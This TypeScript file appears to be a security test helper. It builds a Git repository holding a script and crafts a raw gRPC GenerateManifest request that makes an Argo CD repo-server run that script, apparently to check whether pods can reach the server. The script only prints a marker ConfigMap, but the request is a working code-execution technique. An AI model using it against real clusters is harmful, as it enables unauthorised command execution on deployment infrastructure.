/** Asking Argo CD's repo-server for manifests as any pod could: its gRPC by hand, and a Git repository with a program in it. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Git } from "../lib/git/git.ts";

/** What the program prints that repo-server is made to run. */
export const mark = "ran-on-repo-server";

/** A bare repository's files by path, with a program in its first commit, and that commit's name. */
async function attackersRepository(): Promise<{ files: Record<string, string>; commit: string }> {
  const directory = mkdtempSync(join(tmpdir(), "e2e-doors-"));
  const attacker = new Git(directory);
  const git = (...args: string[]): Promise<string> =>
    attacker.run("-c", "user.name=e2e", "-c", "user.email=e2e@localhost", ...args);
  try {
    await git("init", "--quiet", "--initial-branch=main");
    const object = { apiVersion: "v1", kind: "ConfigMap", metadata: { name: mark } };
    const script = `#!/bin/sh\ntest "$1" != build || printf '%s\\n' '${JSON.stringify(object)}'\n`;
    writeFileSync(join(directory, "attack.sh"), script, { mode: 0o755 });
    writeFileSync(join(directory, "kustomization.yaml"), "resources: []\n");
    await git("add", "--all");
    await git("commit", "--quiet", "--message", "attack");
    await git("update-server-info");
    const root = join(directory, ".git");
    const files: Record<string, string> = {};
    const paths = readdirSync(root, { recursive: true, withFileTypes: true }).filter((entry) =>
      entry.isFile(),
    );
    for (const entry of paths) {
      const path = join(entry.parentPath, entry.name);
      files[path.slice(root.length + 1)] = readFileSync(path).toString("base64");
    }
    return { files, commit: await git("rev-parse", "HEAD") };
  } finally {
    rmSync(directory, { recursive: true });
  }
}

/**
 * JavaScript for a pod, or a node's network: serves that repository, asks repo-server for its manifests with a program of its
 * own, and prints the answer.
 * @param podIP where it runs
 * @param server where repo-server is
 */
export async function generateManifest(
  podIP: string,
  server = "argocd-repo-server.argocd.svc.cluster.local",
): Promise<string> {
  const { files, commit } = await attackersRepository();
  return `
    import { createServer } from "node:http";
    import { connect } from "node:http2";
    const files = ${JSON.stringify(files)};
    const server = createServer((request, response) => {
      const file = files[new URL(request.url, "http://x").pathname.replace("/repo.git/", "")];
      if (file === undefined) response.statusCode = 404;
      response.end(Buffer.from(file ?? "", "base64"));
    });
    await new Promise((done) => server.listen(8000, done));
    // Protocol buffers: every field that is needed is a string or a message of strings.
    const field = (number, value) => {
      const bytes = Buffer.isBuffer(value) ? value : Buffer.from(value);
      const varint = (n) => (n < 128 ? [n] : [(n & 127) | 128, ...varint(n >> 7)]);
      return Buffer.concat([Buffer.from([...varint((number << 3) | 2), ...varint(bytes.length)]), bytes]);
    };
    const url = "http://${podIP}:8000/repo.git";
    const repository = Buffer.concat([field(1, url), field(11, "git")]);
    const source = Buffer.concat([
      field(1, url), field(2, "."), field(4, "${commit}"), field(8, field(1, "x-")),
    ]);
    const message = Buffer.concat([
      field(1, repository), field(2, "${commit}"), field(5, "attack"), field(8, "default"), field(10, source),
      field(13, field(2, "./attack.sh")), field(24, "*"), field(25, "default"),
    ]);
    const frame = Buffer.alloc(5);
    frame.writeUInt32BE(message.length, 1);
    const said = [];
    const session = connect("https://${server}:8081", { rejectUnauthorized: false });
    const answer = new Promise((done) => {
      session.on("error", (error) => done("refused: " + error.message));
      session.on("close", () => done("closed"));
      const stream = session.request({
        ":method": "POST", ":path": "/repository.RepoServerService/GenerateManifest",
        "content-type": "application/grpc", te: "trailers",
      });
      stream.on("data", (data) => said.push(data));
      stream.on("response", (headers) => headers["grpc-message"] && said.push(Buffer.from(headers["grpc-message"])));
      stream.on("trailers", (headers) => said.push(Buffer.from(" " + headers["grpc-status"] + " " + headers["grpc-message"])));
      stream.on("error", (error) => done("refused: " + error.message));
      stream.on("end", () => done("answered"));
      stream.end(Buffer.concat([frame, message]));
    });
    const late = new Promise((done) => setTimeout(() => done("no answer"), 60000));
    console.log(await Promise.race([answer, late]), Buffer.concat(said).toString("latin1"));
    process.exit(0);`;
}
